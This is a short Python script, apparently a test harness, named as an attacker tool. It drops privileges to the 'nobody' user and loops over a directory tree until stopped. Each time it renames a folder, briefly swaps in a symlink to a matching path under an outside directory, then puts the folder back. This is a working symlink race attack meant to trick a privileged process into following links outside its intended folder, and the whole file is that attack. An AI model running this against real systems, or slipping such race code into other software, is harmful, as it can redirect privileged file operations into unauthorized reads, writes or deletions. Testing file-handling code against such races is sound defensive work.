"""As the user nobody, swap folders for links until SIGTERM: `python attacker.py FOLDER OUTSIDE`.

Every folder that this user can rename, at any depth, becomes a link to the folder of the same
place in OUTSIDE, is put back, and so on. Standard output says when it began.
"""

import os
import pwd
import signal
import sys
from contextlib import suppress


def main() -> None:
    folder, outside = sys.argv[1:]
    become_nobody()
    stopped: list[int] = []
    signal.signal(signal.SIGTERM, lambda number, _: stopped.append(number))
    began = False
    while not stopped:
        for place, names, _ in os.walk(folder):
            for name in names:
                path = f"{place}/{name}"
                if swapped(path, outside + path.removeprefix(folder)) and not began:
                    began = True
                    sys.stdout.write("swapping\n")
                    sys.stdout.flush()


def become_nobody() -> None:
    user = pwd.getpwnam("nobody")
    os.setgroups([])
    os.setgid(user.pw_gid)
    os.setuid(user.pw_uid)


def swapped(path: str, target: str) -> bool:
    """Let a link take the place of a folder for a moment; return whether that was possible."""
    aside = f"{path}.aside"
    try:
        os.rename(path, aside)  # noqa: PTH104 - pathlib would take longer
    except OSError:
        return False
    with suppress(
        OSError
    ):  # the other side made or removed something: the more confusion, the better
        os.symlink(target, path)  # noqa: PTH211 - the same
        os.unlink(path)  # noqa: PTH108 - the same
    with suppress(OSError):  # the same
        os.rename(aside, path)  # noqa: PTH104 - the same
    return True


if __name__ == "__main__":
    main()
